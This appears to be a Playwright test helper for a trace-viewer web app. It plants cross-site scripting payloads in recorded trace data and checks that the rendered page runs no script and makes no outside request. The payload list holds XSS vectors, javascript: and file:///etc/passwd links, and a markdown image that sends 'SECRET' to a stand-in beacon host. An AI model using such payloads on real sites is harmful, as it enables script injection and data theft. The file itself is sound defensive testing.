import type { Browser, Page } from 'playwright';

export const BEACON = 'https://beacon.example.invalid';

/** Harmless in themselves: each would set a mark or ask for an address that does not exist. */
const PAYLOADS = [
  `<img src=x onerror="window.xssRan=1">`,
  `<script>window.xssRan=1</script>`,
  `<svg onload="window.xssRan=1"><a href="javascript:window.xssRan=1">x</a></svg>`,
  `<iframe srcdoc="<script>parent.xssRan=1</script>"></iframe>`,
  `<style>@import "${BEACON}/a.css"; * { background: url(${BEACON}/b.png) }</style>`,
  `<link rel=prefetch href="${BEACON}/p"><meta http-equiv=refresh content="0;url=${BEACON}/m">`,
  `[press me](javascript:window.xssRan=1) [or me](JaVaScRiPt:window.xssRan=1) [me](&#106;avascript:window.xssRan=1)`,
  `[data](data:text/html,<script>window.xssRan=1</script>) [vb](vbscript:x) [file](file:///etc/passwd)`,
  `![pixel](${BEACON}/p.png?d=SECRET) ![svg](data:image/svg+xml,<svg onload="window.xssRan=1"/>)`,
  `<https://beacon.example.invalid/auto> ${BEACON}/bare ![x][ref]\n\n[ref]: ${BEACON}/ref.png`,
  '```html\n<script>window.xssRan=1</script>\n```',
  `| a | b |\n| --- | --- |\n| <img src=${BEACON}/t.png> | [x](javascript:window.xssRan=1) |`,
  `{"__proto__":{"polluted":true},"html":"<img src=x onerror=window.xssRan=1>"}`,
  `" onmouseover="window.xssRan=1" x="`,
  `\u202Egnp.exe \u0000 \u200B </textarea></title></style></script>`,
];

/** The recorded trace with payloads behind every text that is no number, word of a convention, or JSON. */
export function withPayloads(recorded: string): Uint8Array {
  const all = PAYLOADS.join('\n\n');
  let which = 0;
  const hostile = (key: string, value: unknown): unknown => {
    if (typeof value !== 'string' || ['traceId', 'spanId', 'parentSpanId'].includes(key) || /Nano$/.test(key))
      return value;
    if (key === 'key' || key === 'name') return value;
    const structure = /^\s*[[{]/.test(value) ? parsed(value) : undefined;
    if (structure !== undefined)
      return JSON.stringify(structure, (inner, item: unknown) =>
        inner === 'role' || inner === 'type' ? item : hostile(inner, item),
      );
    if (/^[\w.-]{0,16}$/.test(value)) return value;
    which += 1;
    return which % 7 === 0 ? `${value}\n\n${all}` : `${value} ${PAYLOADS[which % PAYLOADS.length]!}`;
  };
  const lines = recorded.trim().split('\n');
  return Buffer.from(lines.map((line) => JSON.stringify(JSON.parse(line), hostile)).join('\n'));
}

function parsed(text: string): unknown {
  try {
    return JSON.parse(text) as unknown;
  } catch {
    return undefined;
  }
}

/** A page that writes down whatever should not happen. */
export async function watched(
  browser: Browser,
  url: string,
  offline = false,
): Promise<{ readonly page: Page; readonly faults: string[] }> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
  await page.context().setOffline(offline);
  const faults: string[] = [];
  page.on('request', (request) => {
    const to = request.url();
    if (!to.startsWith(url) && !to.startsWith('data:')) faults.push(`asked for ${to}`);
  });
  page.on('dialog', (dialog) => {
    faults.push(`opened a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => faults.push(`opened ${popup.url()}`));
  page.on('pageerror', (error) => faults.push(`threw ${error.message}`));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      (window as unknown as { broken: string[] }).broken.push(`${violatedDirective} ${blockedURI} ${sample}`);
    });
    (window as unknown as { broken: string[] }).broken = [];
  });
  await page.goto(url);
  await page.waitForSelector('[role=row][aria-level], [role=alert]', { timeout: 60_000 });
  return { page, faults };
}

/** Opens every span, every panel of it, and every fold and list in that. */
export async function lookAtAll(page: Page, spansAtMost: number): Promise<number> {
  return page.evaluate(async (most) => {
    const rest = (): Promise<void> => new Promise((done) => setTimeout(done, 10));
    let looked = 0;
    const rows = [...document.querySelectorAll<HTMLElement>('[role=row][aria-level]')].slice(0, most);
    for (const row of rows) {
      row.click();
      for (let wait = 0; wait < 100 && !document.querySelector('[role=tabpanel]'); wait += 1) await rest();
      const tabs = document.querySelectorAll<HTMLElement>('.tv-tabs [role=tab]').length;
      for (let tab = 0; tab < tabs; tab += 1) {
        document.querySelectorAll<HTMLElement>('.tv-tabs [role=tab]')[tab]?.click();
        await rest();
        for (let more = 0; more < 3; more += 1) {
          for (const fold of document.querySelectorAll<HTMLDetailsElement>('.tv-panel details:not([open])'))
            fold.open = true;
          for (const button of document.querySelectorAll<HTMLElement>(
            '.tv-panel :is(.tv-more[aria-expanded=false], .tv-link-words[aria-expanded=false])',
          ))
            button.click();
          await rest();
        }
        looked += 1;
      }
    }
    return looked;
  }, spansAtMost);
}

/** Opens the list of findings, points at every bar, and reads the transcript to its end; answers how many lines it had. */
export async function lookAtViews(page: Page): Promise<number> {
  await page.waitForTimeout(300);
  const findings = page.locator('.tv-findings-button');
  if ((await findings.count()) > 0) {
    await findings.click();
    await page.locator('.tv-findings').waitFor();
  }
  for (const bar of (await page.locator('.tv-row .tv-marks i').all()).slice(0, 20))
    await bar.hover({ force: true, timeout: 1000 }).catch(() => undefined);
  const transcript = page.getByRole('radio', { name: 'Transcript' });
  if ((await transcript.count()) === 0) return 0;
  await transcript.click();
  const feed = page.getByRole('feed');
  await feed.waitFor();
  await page.waitForTimeout(300);
  let lines = 0;
  for (let screen = 0; screen < 12; screen += 1) {
    lines += await feed.getByRole('article').count();
    await page.evaluate(() => {
      for (const fold of document.querySelectorAll<HTMLElement>('[role=article] [aria-expanded=false]')) fold.click();
      const list = document.querySelector<HTMLElement>('[role=feed]')!;
      const scroller = list.scrollHeight > list.clientHeight ? list : list.parentElement!;
      scroller.scrollTop += scroller.clientHeight;
    });
    await page.waitForTimeout(30);
  }
  return lines;
}

/** What the page holds that text alone could not have made. */
export const made = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => {
    const found: string[] = [];
    if ('xssRan' in window || '__xss' in window) found.push('ran a script');
    if (({} as { polluted?: unknown }).polluted !== undefined) found.push('polluted a prototype');
    for (const each of document.querySelectorAll(
      '#root :is(script, iframe, img, style, link, meta, object, embed, base, form)',
    ))
      found.push(`made <${each.tagName.toLowerCase()}>`);
    for (const link of document.querySelectorAll('#root [href]'))
      if (!/^(?:https?|mailto):/.test(link.getAttribute('href')!)) found.push(`links to ${link.getAttribute('href')!}`);
    for (const each of document.querySelectorAll('#root *'))
      for (const { name } of each.attributes) if (name.startsWith('on')) found.push(`has ${name}`);
    return [...found, ...(window as unknown as { broken: string[] }).broken];
  });
